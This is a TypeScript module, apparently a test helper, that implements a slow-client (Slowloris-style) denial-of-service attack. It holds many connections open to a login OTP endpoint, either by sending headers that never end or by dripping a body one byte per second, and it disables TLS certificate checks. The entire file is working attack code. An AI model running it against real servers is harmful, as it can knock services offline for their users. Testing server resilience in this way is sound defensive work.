import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { connect as connectTls } from 'node:tls';

/** Clients that send a request a little at a time. Each opens another connection when its own is closed. */
export interface SlowSockets {
  /** Connections that were opened, the first ones and those after. */
  opened(): number;
  stop(): void;
}

/** What a slow client sends at once, and then once a second. */
export interface SlowRequest {
  readonly start: string;
  readonly step: string;
}

const path = '/myaccount/api/login/otp/send';
const head = `POST ${path} HTTP/1.1\r\nHost: my.provider.example\r\nContent-Type: application/json\r\n`;
/** Headers that never end. */
export const slowHeaders: SlowRequest = { start: head, step: 'X-Slow: 1\r\n' };
/** A body of which one byte a second arrives. */
export const slowBody: SlowRequest = { start: `${head}Content-Length: 1000\r\n\r\n{`, step: ' ' };

const stepMs = 1_000;

/** Opens `count` connections, and returns when all of them have begun their request. */
export async function openSlowSockets(
  url: string,
  request: SlowRequest,
  count: number,
): Promise<SlowSockets> {
  const sockets = new Set<Socket>();
  let opened = 0;
  const open = () => {
    const socket = connectTo(url);
    sockets.add(socket);
    opened += 1;
    socket.on('error', () => undefined).resume();
    socket.once('close', () => sockets.delete(socket));
    socket.write(request.start);
    return socket;
  };
  for (let left = count; left > 0; left -= 1) {
    const socket = open();
    // One handshake after the other: the attack costs little, as a real one does.
    await Promise.race([
      once(socket, url.startsWith('https') ? 'secureConnect' : 'connect'),
      once(socket, 'close'),
    ]).catch(() => undefined);
  }
  const stepping = setInterval(() => {
    for (const socket of sockets) if (!socket.pending) socket.write(request.step);
    for (let left = count - sockets.size; left > 0; left -= 1) open();
  }, stepMs);
  return {
    opened: () => opened,
    stop: () => {
      clearInterval(stepping);
      for (const socket of sockets) socket.destroy();
    },
  };
}

function connectTo(url: string): Socket {
  const { protocol, hostname: host, port } = new URL(url);
  const address = { host, port: Number(port) };
  return protocol === 'https:' ? connectTls({ ...address, rejectUnauthorized: false }) : connect(address);
}
